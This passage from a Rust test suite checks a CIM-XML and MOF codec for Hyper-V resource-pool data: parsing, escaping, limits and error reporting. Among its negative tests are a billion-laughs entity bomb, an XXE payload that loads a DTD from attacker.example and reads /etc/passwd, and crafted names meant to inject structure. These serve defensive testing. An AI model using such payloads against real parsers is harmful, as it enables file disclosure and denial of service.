#[case::interval("datetime", "00000001020304.000000:000", true)]
#[case::interval_bad_tail("datetime", "00000001020304.000000:001", false)]
#[case::month_13("datetime", "20241301000000.000000+000", false)]
#[case::day_0("datetime", "20240100000000.000000+000", false)]
#[case::short_datetime("datetime", "20240101", false)]
fn typed_values(#[case] cim_type: &str, #[case] text: &str, #[case] valid: bool) {
    let result = decode(&xml_instance(&xml_prop("P", cim_type, text)));
    match (valid, result) {
        (true, Ok(i)) => assert!(i.property("P").is_some()),
        (
            false,
            Err(CodecError::InvalidValue {
                property,
                cim_type: t,
                ..
            }),
        ) => {
            assert_eq!(property, "P");
            assert_eq!(t.name(), cim_type);
        }
        (valid, other) => panic!("{cim_type} {text:?}: expected valid={valid}, got {other:?}"),
    }
}

#[test]
fn cim_type_names_round_trip() {
    for t in CimType::ALL {
        assert_eq!(CimType::from_name(t.name()), Some(t));
        assert_eq!(CimType::from_name(&t.name().to_uppercase()), Some(t));
    }
    assert_eq!(CimType::from_name("object"), None);
    assert_eq!(CimType::from_name("uint128"), None);
    assert_eq!(CimType::Uint16.name(), "uint16");
}

// ------------------------------------------------------------------------------------------
// References

#[rstest]
#[case::instance_path(
    r#"<INSTANCEPATH><NAMESPACEPATH><HOST>hv01</HOST><LOCALNAMESPACEPATH><NAMESPACE NAME="root"/><NAMESPACE NAME="virtualization"/><NAMESPACE NAME="v2"/></LOCALNAMESPACEPATH></NAMESPACEPATH><INSTANCENAME CLASSNAME="Msvm_ResourcePool"><KEYBINDING NAME="InstanceID"><KEYVALUE VALUETYPE="string">Microsoft:Pool\"A"</KEYVALUE></KEYBINDING></INSTANCENAME></INSTANCEPATH>"#,
    r#"//hv01/root/virtualization/v2:Msvm_ResourcePool.InstanceID="Microsoft:Pool\\\"A\"""#
)]
#[case::local_instance_path(
    r#"<LOCALINSTANCEPATH><LOCALNAMESPACEPATH><NAMESPACE NAME="root"/><NAMESPACE NAME="cimv2"/></LOCALNAMESPACEPATH><INSTANCENAME CLASSNAME="C"><KEYBINDING NAME="A"><KEYVALUE VALUETYPE="numeric"> 5 </KEYVALUE></KEYBINDING><KEYBINDING NAME="B"><KEYVALUE VALUETYPE="boolean">true</KEYVALUE></KEYBINDING></INSTANCENAME></LOCALINSTANCEPATH>"#,
    "/root/cimv2:C.A=5,B=true"
)]
#[case::instance_name(
    r#"<INSTANCENAME CLASSNAME="C"><KEYBINDING NAME="K"><KEYVALUE>v, w</KEYVALUE></KEYBINDING></INSTANCENAME>"#,
    r#"C.K="v, w""#
)]
#[case::bare_key_value(
    r#"<INSTANCENAME CLASSNAME="C"><KEYVALUE VALUETYPE="string">v</KEYVALUE></INSTANCENAME>"#,
    r#"C="v""#
)]
#[case::singleton(r#"<INSTANCENAME CLASSNAME="Singleton"/>"#, "Singleton=@")]
#[case::class_name(r#"<CLASSNAME NAME="CIM_ResourcePool"/>"#, "CIM_ResourcePool")]
#[case::class_path(
    r#"<CLASSPATH><NAMESPACEPATH><HOST>h:5989</HOST><LOCALNAMESPACEPATH><NAMESPACE NAME="interop"/></LOCALNAMESPACEPATH></NAMESPACEPATH><CLASSNAME NAME="C"/></CLASSPATH>"#,
    "//h:5989/interop:C"
)]
#[case::nested_reference_key(
    r#"<INSTANCENAME CLASSNAME="Assoc"><KEYBINDING NAME="Antecedent"><VALUE.REFERENCE><INSTANCENAME CLASSNAME="P"/></VALUE.REFERENCE></KEYBINDING></INSTANCENAME>"#,
    r#"Assoc.Antecedent="P=@""#
)]
fn references_render_as_object_paths(#[case] inner: &str, #[case] expected: &str) {
    let i = decoded(&reference_xml(inner));
    let p = i.property("Ref").unwrap();
    assert_eq!(p.cim_type, CimType::Reference);
    assert_eq!(p.value, PropertyValue::Reference(expected.to_string()));
    // And the rendering goes back to the same value through CIM-XML.
    assert_eq!(decoded(&encode(&i, Encoding::CimXml)), i);
    // Through MOF a reference becomes a string holding the path.
    let via_mof = decoded(&encode(&i, Encoding::Mof));
    assert_eq!(via_mof.string("Ref").unwrap().as_deref(), Some(expected));
}

#[test]
fn reference_without_value_is_null() {
    let i = decoded(&xml_instance(
        r#"<PROPERTY.REFERENCE NAME="Ref"></PROPERTY.REFERENCE>"#,
    ));
    assert_eq!(i.property("Ref").unwrap().value, PropertyValue::Null);
}

#[test]
fn non_canonical_reference_is_invalid_and_not_encoded_as_a_path() {
    let i = Instance::new("C").with_scalar("Ref", CimType::Reference, "C.K = \"v\"");
    assert!(matches!(i.validate(), Err(CodecError::InvalidValue { .. })));
    assert!(matches!(
        try_encode(&i, Encoding::CimXml),
        Err(CodecError::InvalidValue { .. })
    ));
    let xml = encode(&i, Encoding::CimXml);
    assert!(
        xml.contains("<VALUE.REFERENCE>C.K = &quot;v&quot;</VALUE.REFERENCE>"),
        "{xml}"
    );
    assert_eq!(kind(&decode_err(&xml)), "Xml");
}

// ------------------------------------------------------------------------------------------
// Encoding

#[test]
fn cim_xml_encoding_is_compact_and_escaped() {
    let i = Instance::new("Msvm_ResourcePoolSettingData")
        .with_scalar("PoolID", CimType::String, "P1 <&> \"q\" 'a'\r\n")
        .with_scalar("ResourceType", CimType::Uint16, "4")
        .with_array(
            "MappingOrder",
            CimType::String,
            vec!["a".into(), "b".into()],
        )
        .with_null("Notes", CimType::String);
    assert_eq!(
        encode(&i, Encoding::CimXml),
        concat!(
            r#"<INSTANCE CLASSNAME="Msvm_ResourcePoolSettingData">"#,
            r#"<PROPERTY NAME="PoolID" TYPE="string"><VALUE>P1 &lt;&amp;&gt; &quot;q&quot; 'a'&#xD;"#,
            "\n",
            r#"</VALUE></PROPERTY>"#,
            r#"<PROPERTY NAME="ResourceType" TYPE="uint16"><VALUE>4</VALUE></PROPERTY>"#,
            r#"<PROPERTY.ARRAY NAME="MappingOrder" TYPE="string"><VALUE.ARRAY><VALUE>a</VALUE><VALUE>b</VALUE></VALUE.ARRAY></PROPERTY.ARRAY>"#,
            r#"<PROPERTY NAME="Notes" TYPE="string"></PROPERTY>"#,
            r#"</INSTANCE>"#
        )
    );
    assert_eq!(decoded(&encode(&i, Encoding::CimXml)), i);
}

#[test]
fn mof_encoding_layout_and_escapes() {
    let mut i = Instance::new("Msvm_ResourcePoolSettingData")
        .with_scalar("PoolID", CimType::String, "P\"1\\\n\t\u{1}")
        .with_scalar("ResourceType", CimType::Uint16, "0x21")
        .with_scalar("Ok", CimType::Boolean, "true")
        .with_scalar("Ratio", CimType::Real64, "5")
        .with_scalar("C", CimType::Char16, "'")
        .with_array("Arr", CimType::String, vec!["a".into(), "b".into()])
        .with_null("Notes", CimType::String);
    i.properties.push(Property {
        name: "Sparse".into(),
        cim_type: CimType::Sint32,
        is_array: true,
        value: PropertyValue::Array(vec![Some("-3".into()), None]),
    });
    let mof = encode(&i, Encoding::Mof);
    assert_eq!(
        mof,
        concat!(
            "instance of Msvm_ResourcePoolSettingData\n{\n",
            "    PoolID = \"P\\\"1\\\\\\n\\t\\x0001\";\n",
            "    ResourceType = 33;\n",
            "    Ok = TRUE;\n",
            "    Ratio = 5.0;\n",
            "    C = '\\'';\n",
            "    Arr = {\"a\", \"b\"};\n",
            "    Notes = NULL;\n",
            "    Sparse = {-3, NULL};\n",
            "};\n"
        )
    );
    assert_eq!(decoded(&mof), mof_normal_form(&i));
}

#[test]
fn encoding_never_lets_names_or_values_inject_structure() {
    let evil = Instance::new("C { X = 1; }; instance of D")
        .with_scalar(
            "A\"><PROPERTY NAME=\"B",
            CimType::String,
            "</VALUE></PROPERTY><PROPERTY NAME=\"Z\" TYPE=\"string\"><VALUE>z",
        )
        .with_scalar("N", CimType::Uint16, "1; Injected = 2");
    // CIM-XML: names are escaped, so decoding finds bad names rather than new properties.
    let xml = encode(&evil, Encoding::CimXml);
    assert_eq!(kind(&decode_err(&xml)), "InvalidName");
    // MOF: invalid names and values are written as `$invalid(...)`, which is not MOF.
    let mof = encode(&evil, Encoding::Mof);
    assert!(
        mof.starts_with("instance of $invalid(\"C { X = 1; }; instance of D\")"),
        "{mof}"
    );
    assert_eq!(kind(&decode_err(&mof)), "Mof");
    let valid_names = Instance::new("C").with_scalar("N", CimType::Uint16, "1; Injected = 2");
    let mof = encode(&valid_names, Encoding::Mof);
    assert!(mof.contains("N = $invalid(\"1; Injected = 2\");"), "{mof}");
    assert_eq!(kind(&decode_err(&mof)), "Mof");
    let xml = encode(&valid_names, Encoding::CimXml);
    assert_eq!(kind(&decode_err(&xml)), "InvalidValue");
}

#[test]
fn control_characters_xml_refuses_mof_carries() {
    let i = Instance::new("C").with_scalar("S", CimType::String, "a\u{1}b\u{7F}c\u{85}");
    assert!(i.validate().is_ok());
    let xml = encode(&i, Encoding::CimXml);
    assert!(xml.contains("a&#x1;b&#x7F;c&#x85;"), "{xml}");
    match decode_err(&xml) {
        CodecError::Xml { message, .. } => assert!(message.contains("U+0001"), "{message}"),
        other => panic!("{other:?}"),
    }
    match try_encode(&i, Encoding::CimXml) {
        Err(CodecError::InvalidValue { property, .. }) => assert_eq!(property, "S"),
        other => panic!("{other:?}"),
    }
    // DEL and C1 controls alone are fine in XML 1.0.
    let legal = Instance::new("C").with_scalar("S", CimType::String, "b\u{7F}c\u{85}\u{9F}");
    assert_eq!(
        decoded(&try_encode(&legal, Encoding::CimXml).unwrap()),
        legal
    );
    // MOF carries everything.
    let mof = try_encode(&i, Encoding::Mof).unwrap();
    assert_eq!(decoded(&mof), i);
}

// ------------------------------------------------------------------------------------------
// Errors: every variant, reached by a malformed input

/// A reference nested `levels` times through key bindings: `INSTANCE` > `PROPERTY.REFERENCE` >
/// `VALUE.REFERENCE`, then per level `INSTANCENAME` > `KEYBINDING` > `VALUE.REFERENCE`, then
/// `INSTANCENAME` > `KEYBINDING` > `KEYVALUE`: valid CIM-XML `3 * levels + 6` elements deep.
fn nested_reference(levels: usize) -> String {
    let mut inner = r#"<INSTANCENAME CLASSNAME="Z"><KEYBINDING NAME="K"><KEYVALUE>v</KEYVALUE></KEYBINDING></INSTANCENAME>"#.to_string();
    for _ in 0..levels {
        inner = format!(
            r#"<INSTANCENAME CLASSNAME="A"><KEYBINDING NAME="K"><VALUE.REFERENCE>{inner}</VALUE.REFERENCE></KEYBINDING></INSTANCENAME>"#
        );
    }
    reference_xml(&inner)
}

/// 18 levels: valid CIM-XML, deeper than the default limit of 16.
fn deep_reference() -> String {
    nested_reference(4)
}

#[test]
fn nesting_up_to_the_default_depth_decodes() {
    // 15 levels: a reference nested three times. Each nested path is a quoted string key.
    let mut expected = r#"Z.K="v""#.to_string();
    for _ in 0..3 {
        let quoted = expected.replace('\\', "\\\\").replace('"', "\\\"");
        expected = format!(r#"A.K="{quoted}""#);
    }
    let i = decoded(&nested_reference(3));
    assert_eq!(i.properties[0].value, PropertyValue::Reference(expected));
}

fn many_properties(n: usize) -> String {
    xml_instance(
        &(0..n)
            .map(|k| xml_prop(&format!("P{k}"), "uint8", "1"))
            .collect::<String>(),
    )
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<INSTANCE CLASSNAME="Msvm_ResourcePoolSettingData"><PROPERTY NAME="PoolID" TYPE="string"><VALUE>&lol9;</VALUE></PROPERTY></INSTANCE>"#;

const EXTERNAL_ENTITY: &str = r#"<?xml version="1.0"?><!DOCTYPE INSTANCE SYSTEM "http://attacker.example/cim.dtd" [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><INSTANCE CLASSNAME="X"><PROPERTY NAME="PoolID" TYPE="string"><VALUE>&xxe;</VALUE></PROPERTY></INSTANCE>"#;

#[rstest]
// Sizes and counts.
#[case::too_large(format!("{}{}", xml_instance(""), " ".repeat(64 * 1024)), "TooLarge")]
#[case::too_deep_xml(deep_reference(), "TooDeep")]
#[case::too_many_properties(many_properties(257), "TooManyProperties")]
#[case::array_too_long(xml_instance(&format!(r#"<PROPERTY.ARRAY NAME="A" TYPE="uint8"><VALUE.ARRAY>{}</VALUE.ARRAY></PROPERTY.ARRAY>"#, "<VALUE>1</VALUE>".repeat(1025))), "ArrayTooLong")]
#[case::qualifier_array_too_long(xml_instance(&format!(r#"<QUALIFIER NAME="Q" TYPE="uint8"><VALUE.ARRAY>{}</VALUE.ARRAY></QUALIFIER>"#, "<VALUE.NULL/>".repeat(1025))), "ArrayTooLong")]
#[case::value_too_large(xml_instance(&xml_prop("S", "string", &"x".repeat(16 * 1024 + 1))), "ValueTooLarge")]
#[case::mof_value_too_large(format!("instance of C {{ S = \"{}\"; }};", "x".repeat(16 * 1024 + 1)), "ValueTooLarge")]
// Malformed XML.
#[case::truncated(RPSD_WMIDTD20[..RPSD_WMIDTD20.len() / 2].to_string(), "Xml")]
#[case::truncated_in_tag(r#"<INSTANCE CLASSNAME="X"><PROPERTY NAME="A" TY"#.to_string(), "Xml")]
#[case::unclosed_root(r#"<INSTANCE CLASSNAME="X">"#.to_string(), "Xml")]
#[case::mismatched_end(
    xml_instance(r#"<PROPERTY NAME="A" TYPE="string"><VALUE>x</PROPERTY></VALUE>"#),
    "Xml"
)]
#[case::unknown_entity(xml_instance(&xml_prop("A", "string", "&nbsp;")), "Xml")]
#[case::bare_ampersand(xml_instance(&xml_prop("A", "string", "a & b")), "Xml")]
#[case::control_char_reference(xml_instance(&xml_prop("A", "string", "&#x1;")), "Xml")]
#[case::raw_control_char(xml_instance(&xml_prop("A", "string", "\u{1}")), "Xml")]
#[case::nul_reference(xml_instance(&xml_prop("A", "string", "&#0;")), "Xml")]
#[case::text_in_instance(xml_instance("stray text"), "Xml")]
#[case::unquoted_attribute(r#"<INSTANCE CLASSNAME=X></INSTANCE>"#.to_string(), "Xml")]
#[case::duplicate_attribute(r#"<INSTANCE CLASSNAME="X" CLASSNAME="Y"></INSTANCE>"#.to_string(), "Xml")]
#[case::late_declaration(format!("{}<?xml version=\"1.0\"?>", xml_instance("")), "Xml")]
// DTDs.
#[case::doctype_external_entity(EXTERNAL_ENTITY.to_string(), "Dtd")]
#[case::billion_laughs(BILLION_LAUGHS.to_string(), "Dtd")]
#[case::unclosed_doctype(r#"<!DOCTYPE x [ <!ENTITY a "b">"#.to_string(), "Dtd")]
// Grammar.
#[case::wrong_root(r#"<CLASS NAME="Msvm_ResourcePoolSettingData"></CLASS>"#.to_string(), "UnexpectedElement")]
#[case::lowercase_root(r#"<instance CLASSNAME="X"></instance>"#.to_string(), "UnexpectedElement")]
#[case::array_value_in_scalar(
    xml_instance(r#"<PROPERTY NAME="A" TYPE="string"><VALUE.ARRAY></VALUE.ARRAY></PROPERTY>"#),
    "UnexpectedElement"
)]
#[case::two_values(
    xml_instance(
        r#"<PROPERTY NAME="A" TYPE="string"><VALUE>1</VALUE><VALUE>2</VALUE></PROPERTY>"#
    ),
    "UnexpectedElement"
)]
#[case::element_in_value(
    xml_instance(r#"<PROPERTY NAME="A" TYPE="string"><VALUE><b>1</b></VALUE></PROPERTY>"#),
    "UnexpectedElement"
)]
#[case::qualifier_after_property(xml_instance(&format!(r#"{}<QUALIFIER NAME="Q" TYPE="string"/>"#, xml_prop("A", "string", "x"))), "UnexpectedElement")]
#[case::embedded_object_property(
    xml_instance(r#"<PROPERTY.OBJECT NAME="E"/>"#),
    "UnexpectedElement"
)]
#[case::missing_instancename(reference_xml(r#"<LOCALINSTANCEPATH><LOCALNAMESPACEPATH><NAMESPACE NAME="root"/></LOCALNAMESPACEPATH></LOCALINSTANCEPATH>"#), "MissingElement")]
#[case::empty_namespace_path(reference_xml(r#"<LOCALCLASSPATH><LOCALNAMESPACEPATH></LOCALNAMESPACEPATH><CLASSNAME NAME="C"/></LOCALCLASSPATH>"#), "MissingElement")]
#[case::empty_value_reference(reference_xml(""), "MissingElement")]
#[case::missing_classname(r#"<INSTANCE><PROPERTY NAME="A" TYPE="string"/></INSTANCE>"#.to_string(), "MissingAttribute")]
#[case::missing_type(
    xml_instance(r#"<PROPERTY NAME="A"><VALUE>x</VALUE></PROPERTY>"#),
    "MissingAttribute"
)]
#[case::missing_name(
    xml_instance(r#"<PROPERTY TYPE="string"><VALUE>x</VALUE></PROPERTY>"#),
    "MissingAttribute"
)]
#[case::bad_class_name(r#"<INSTANCE CLASSNAME="1Bad"></INSTANCE>"#.to_string(), "InvalidName")]
#[case::bad_property_name(xml_instance(&xml_prop("Pool ID", "string", "x")), "InvalidName")]
#[case::unknown_type(xml_instance(&xml_prop("A", "uint128", "1")), "UnknownCimType")]
#[case::out_of_range_uint16(xml_instance(&xml_prop("ResourceType", "uint16", "65536")), "InvalidValue")]
#[case::bad_boolean(xml_instance(&xml_prop("Primordial", "boolean", "yes")), "InvalidValue")]
#[case::bad_array_element(xml_instance(r#"<PROPERTY.ARRAY NAME="A" TYPE="uint8"><VALUE.ARRAY><VALUE>1</VALUE><VALUE>300</VALUE></VALUE.ARRAY></PROPERTY.ARRAY>"#), "InvalidValue")]
#[case::bad_numeric_key(reference_xml(r#"<INSTANCENAME CLASSNAME="C"><KEYBINDING NAME="K"><KEYVALUE VALUETYPE="numeric">ten</KEYVALUE></KEYBINDING></INSTANCENAME>"#), "InvalidValue")]
#[case::reference_declared_with_property(xml_instance(&xml_prop("R", "reference", "C.K=1")), "WrongShape")]
#[case::duplicate_property(xml_instance(&format!("{}{}", xml_prop("PoolID", "string", "a"), xml_prop("POOLID", "string", "b"))), "DuplicateProperty")]
#[case::duplicate_property_mof("instance of C { PoolID = \"a\"; poolid = \"b\"; };".to_string(), "DuplicateProperty")]
// MOF syntax.
#[case::mof_missing_semicolon("instance of C { A = 1 };".to_string(), "Mof")]
#[case::mof_missing_final_semicolon("instance of C { A = 1; }".to_string(), "Mof")]
#[case::mof_unterminated_string("instance of C { A = \"abc; };".to_string(), "Mof")]
#[case::mof_unterminated_comment("instance of C { /* A = 1; };".to_string(), "Mof")]
#[case::mof_bad_escape(r#"instance of C { A = "\q"; };"#.to_string(), "Mof")]
#[case::mof_surrogate_escape(r#"instance of C { A = "\xD800"; };"#.to_string(), "Mof")]
#[case::mof_class_declaration("class C { uint16 A; };".to_string(), "Mof")]
#[case::mof_out_of_range("instance of C { A = 18446744073709551616; };".to_string(), "Mof")]
#[case::mof_below_range("instance of C { A = -9223372036854775809; };".to_string(), "Mof")]
#[case::mof_mixed_array(r#"instance of C { A = {1, "a"}; };"#.to_string(), "Mof")]
#[case::mof_nested_array("instance of C { A = {{1}}; };".to_string(), "Mof")]
#[case::mof_alias_reference("instance of C { A = $Other; };".to_string(), "Mof")]
#[case::mof_embedded_instance("instance of C { A = instance of D { }; };".to_string(), "Mof")]
#[case::mof_bad_octal("instance of C { A = 09; };".to_string(), "Mof")]
#[case::mof_stray_character("instance of C { A = 1; } ; #".to_string(), "Mof")]
// Empty and trailing.
#[case::empty(String::new(), "Empty")]
#[case::whitespace_only(" \r\n\t ".to_string(), "Empty")]
#[case::xml_comment_only("<!-- nothing -->".to_string(), "Empty")]
#[case::mof_comment_only("// nothing\n/* at all */".to_string(), "Empty")]
#[case::xml_second_root(format!("{}{}", xml_instance(""), xml_instance("")), "TrailingContent")]
#[case::xml_trailing_text(format!("{} trailing", xml_instance("")), "TrailingContent")]
#[case::mof_second_instance("instance of C { }; instance of D { };".to_string(), "TrailingContent")]
fn malformed_inputs_are_refused(#[case] input: String, #[case] expected: &str) {
    let error = decode_err(&input);
    assert_eq!(kind(&error), expected, "error was: {error}");
    // Every error renders a message.
    assert!(!error.to_string().is_empty());
}

#[rstest]
#[case::depth(Limits { max_depth: 2, ..small_limits() }, xml_instance(&xml_prop("A", "string", "x")), "TooDeep")]
#[case::mof_depth(Limits { max_depth: 1, ..small_limits() }, "instance of C { A = {1}; };".to_string(), "TooDeep")]
#[case::mof_qualifier_depth(Limits { max_depth: 2, ..small_limits() }, "[A(((1)))] instance of C { };".to_string(), "TooDeep")]
#[case::properties(small_limits(), many_properties(5), "TooManyProperties")]
#[case::mof_properties(small_limits(), "instance of C { A=1; B=2; C=3; D=4; E=5; };".to_string(), "TooManyProperties")]
#[case::array(small_limits(), xml_instance(r#"<PROPERTY.ARRAY NAME="A" TYPE="string"><VALUE.ARRAY><VALUE/><VALUE/><VALUE/><VALUE.NULL/></VALUE.ARRAY></PROPERTY.ARRAY>"#), "ArrayTooLong")]
#[case::mof_array(small_limits(), "instance of C { A = {1, 2, 3, 4}; };".to_string(), "ArrayTooLong")]
#[case::value(small_limits(), xml_instance(&xml_prop("A", "string", "<![CDATA[0123456789]]>0123456789")), "ValueTooLarge")]
#[case::mof_concatenated_value(small_limits(), r#"instance of C { A = "0123456789" "0123456789"; };"#.to_string(), "ValueTooLarge")]
#[case::bytes(Limits { max_bytes: 10, ..small_limits() }, "instance of C { };".to_string(), "TooLarge")]
fn limits_are_enforced(#[case] limits: Limits, #[case] input: String, #[case] expected: &str) {
    match decode_with_limits(&input, &limits) {
        Ok(i) => panic!("decoded {i:?} despite limits {limits:?}"),
        Err(e) => assert_eq!(kind(&e), expected, "error was: {e}"),
    }
    // The same input is fine with the default limits (except the deliberately huge ones).
    assert!(decode(&input).is_ok(), "{input}");
}

#[test]
fn errors_name_what_was_wrong() {
    let e = decode_err(&xml_instance(&xml_prop("ResourceType", "uint16", "65536")));
    let message = e.to_string();
    assert!(
        message.contains("ResourceType") && message.contains("65536") && message.contains("uint16"),
        "{message}"
    );

    let e = decode_err(&xml_instance(
        r#"<PROPERTY NAME="A"><VALUE>x</VALUE></PROPERTY>"#,
    ));
    assert_eq!(
        e,
        CodecError::MissingAttribute {
            element: "PROPERTY".into(),
            attribute: "TYPE".into()
        }
    );

    let e = decode_err("instance of C {\n  A = 1;\n  B = ;\n};");
    assert_eq!(
        e,
        CodecError::Mof {
            line: 3,
            column: 7,
            message: "property \"B\": expected a value, found ';'".into()
        }
    );

    let doc = xml_instance("<BOGUS/>");
    match decode_err(&doc) {
        CodecError::UnexpectedElement {
            element, offset, ..
        } => {
            assert_eq!(element, "BOGUS");
            assert_eq!(offset, doc.find("<BOGUS").unwrap());
        }
        other => panic!("{other:?}"),
    }

    match decode_err(EXTERNAL_ENTITY) {
        CodecError::Dtd { offset } => {
            assert_eq!(offset, EXTERNAL_ENTITY.find("<!DOCTYPE").unwrap())
        }
        other => panic!("{other:?}"),
    }

    // Values quoted in errors are cut short.
    let long = "9".repeat(1000);
    match decode_err(&xml_instance(&xml_prop("N", "uint8", &long))) {
        CodecError::InvalidValue { value, .. } => assert!(value.chars().count() <= 65, "{value}"),
        other => panic!("{other:?}"),
    }
}

// ------------------------------------------------------------------------------------------
// Accessors

#[test]
fn accessors_check_type_shape_and_range() {
    let i = Instance::new("C")
        .with_scalar("Neg", CimType::Sint32, "-5")
        .with_scalar("Pos", CimType::Sint32, "5")
        .with_scalar("Big", CimType::Uint16, "70000")
        .with_scalar("Junk", CimType::Uint32, "twelve")
        .with_scalar("Hex", CimType::Uint32, "0x10")
        .with_scalar("Str", CimType::String, "x")
        .with_scalar("Real", CimType::Real64, "1.5")
        .with_array("Arr", CimType::String, vec!["a".into()])
        .with_array("Nums", CimType::Uint8, vec!["1".into()]);
    assert_eq!(i.unsigned("Pos").unwrap(), Some(5));
    assert_eq!(i.unsigned("Hex").unwrap(), Some(16));
    assert_eq!(i.signed("Neg").unwrap(), Some(-5));
    assert_eq!(kind(&i.unsigned("Neg").unwrap_err()), "InvalidValue");
    assert_eq!(kind(&i.unsigned("Big").unwrap_err()), "InvalidValue");
    assert_eq!(kind(&i.unsigned("Junk").unwrap_err()), "InvalidValue");
    assert_eq!(kind(&i.unsigned("Str").unwrap_err()), "WrongShape");
    assert_eq!(kind(&i.unsigned("Real").unwrap_err()), "WrongShape");
    assert_eq!(kind(&i.unsigned("Nums").unwrap_err()), "WrongShape");
    assert_eq!(kind(&i.string("Pos").unwrap_err()), "WrongShape");
    assert_eq!(kind(&i.string("Arr").unwrap_err()), "WrongShape");
    assert_eq!(kind(&i.string_array("Str").unwrap_err()), "WrongShape");
    assert_eq!(kind(&i.string_array("Nums").unwrap_err()), "WrongShape");
    assert_eq!(kind(&i.boolean("Str").unwrap_err()), "WrongShape");
    assert_eq!(i.string_array("ARR").unwrap(), Some(vec!["a".to_string()]));
    assert_eq!(i.unsigned("Missing").unwrap(), None);

    let with_null_element = Instance::new("C").with_property(Property {
        name: "HostResource".into(),
        cim_type: CimType::String,
        is_array: true,
        value: PropertyValue::Array(vec![Some("a".into()), None]),
    });
    match with_null_element.string_array("HostResource") {
        Err(CodecError::InvalidValue { reason, .. }) => {
            assert!(reason.contains("element 1"), "{reason}")
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn builders_replace_properties_case_insensitively() {
    let i = Instance::new("C")
        .with_scalar("PoolID", CimType::String, "a")
        .with_scalar("POOLID", CimType::String, "b");
    assert_eq!(i.properties.len(), 1);
    assert_eq!(i.string("poolId").unwrap().as_deref(), Some("b"));
}

#[test]
fn validate_rejects_shape_mismatches() {
    let scalar_on_array = Instance::new("C").with_property(Property {
        name: "A".into(),
        cim_type: CimType::String,
        is_array: true,
        value: PropertyValue::Scalar("x".into()),
    });
    assert_eq!(kind(&scalar_on_array.validate().unwrap_err()), "WrongShape");
    // The encoder writes what the value is, so decoding refuses it rather than guessing.
    assert_eq!(
        kind(&decode_err(&encode(&scalar_on_array, Encoding::CimXml))),
        "UnexpectedElement"
    );

    let reference_array = Instance::new("C").with_property(Property {
        name: "R".into(),
        cim_type: CimType::Reference,
        is_array: true,
        value: PropertyValue::Null,
    });
    assert_eq!(kind(&reference_array.validate().unwrap_err()), "WrongShape");

    let padded = Instance::new("C").with_scalar("N", CimType::Uint8, " 1 ");
    assert_eq!(kind(&padded.validate().unwrap_err()), "InvalidValue");
    let duplicate = Instance {
        class_name: "C".into(),
        properties: vec![
            Property {
                name: "A".into(),
                cim_type: CimType::String,
                is_array: false,
                value: PropertyValue::Null,
            },
            Property {
                name: "a".into(),
                cim_type: CimType::String,
                is_array: false,
                value: PropertyValue::Null,
            },
        ],
    };
    assert_eq!(
        kind(&duplicate.validate().unwrap_err()),
        "DuplicateProperty"
    );
    assert_eq!(
        kind(&decode_err(&encode(&duplicate, Encoding::CimXml))),
        "DuplicateProperty"
    );
    assert_eq!(
        kind(&decode_err(&encode(&duplicate, Encoding::Mof))),
        "DuplicateProperty"
    );
}

// ------------------------------------------------------------------------------------------
// Typed views

#[rstest]
#[case::pool_view_on_rasd(RASD_WMIDTD20, true)]
#[case::allocation_view_on_rpsd(RPSD_WMIDTD20, false)]
#[case::setting_data_is_not_an_allocation(
    r#"<INSTANCE CLASSNAME="CIM_SettingData"></INSTANCE>"#,
    false
)]
fn typed_views_refuse_other_classes(#[case] text: &str, #[case] pool_view: bool) {
    let i = decoded(text);
    let error = if pool_view {
        PoolSettingData::from_instance(&i).unwrap_err()
    } else {
        AllocationSettingData::from_instance(&i).unwrap_err()
    };
    match error {
        CodecError::WrongClass { expected, found } => {
            assert_eq!(found, i.class_name);
            let listed = if pool_view {
                PoolSettingData::CLASSES
            } else {
                AllocationSettingData::CLASSES
            };
            assert!(listed.iter().all(|c| expected.contains(c)), "{expected}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn typed_views_accept_classes_case_insensitively() {
    let i =
        Instance::new("msvm_resourcepoolsettingdata").with_scalar("PoolID", CimType::String, "p");
    assert_eq!(
        PoolSettingData::from_instance(&i)
            .unwrap()
            .pool_id
            .as_deref(),
        Some("p")
    );
    for class in AllocationSettingData::CLASSES {
        let i = Instance::new(class.to_uppercase());
        assert!(AllocationSettingData::from_instance(&i).is_ok(), "{class}");
    }
}

#[rstest]
#[case::resource_type_over_uint16(Instance::new("Msvm_ResourcePoolSettingData").with_scalar("ResourceType", CimType::Uint32, "70000"), "InvalidValue")]
#[case::resource_type_negative(Instance::new("Msvm_ResourcePoolSettingData").with_scalar("ResourceType", CimType::Sint16, "-1"), "InvalidValue")]
#[case::resource_type_string(Instance::new("Msvm_ResourcePoolSettingData").with_scalar("ResourceType", CimType::String, "4"), "WrongShape")]
#[case::pool_id_array(Instance::new("Msvm_ResourcePoolSettingData").with_array("PoolID", CimType::String, vec![]), "WrongShape")]
fn pool_view_checks_types(#[case] i: Instance, #[case] expected: &str) {
    assert_eq!(
        kind(&PoolSettingData::from_instance(&i).unwrap_err()),
        expected
    );
}

#[rstest]
#[case::weight_over_uint32(Instance::new("CIM_ResourceAllocationSettingData").with_scalar("Weight", CimType::Uint64, "4294967296"), "InvalidValue")]
#[case::reservation_real(Instance::new("CIM_ResourceAllocationSettingData").with_scalar("Reservation", CimType::Real64, "1.0"), "WrongShape")]
#[case::limit_bad_text(Instance::new("CIM_ResourceAllocationSettingData").with_scalar("Limit", CimType::Uint64, "-1"), "InvalidValue")]
#[case::host_resource_scalar(Instance::new("CIM_ResourceAllocationSettingData").with_scalar("HostResource", CimType::String, "x"), "WrongShape")]
fn allocation_view_checks_types(#[case] i: Instance, #[case] expected: &str) {
    assert_eq!(
        kind(&AllocationSettingData::from_instance(&i).unwrap_err()),
        expected
    );
}

#[test]
fn typed_views_round_trip_through_both_encodings() {
    for text in [RPSD_WMIDTD20, RPSD_CIMDTD20, RPSD_MOF] {
        let view = PoolSettingData::from_instance(&decoded(text)).unwrap();
        let instance = view.to_instance();
        assert_eq!(
            instance.property("ResourceType").unwrap().cim_type,
            CimType::Uint16
        );
        for encoding in [Encoding::CimXml, Encoding::Mof] {
            let back =
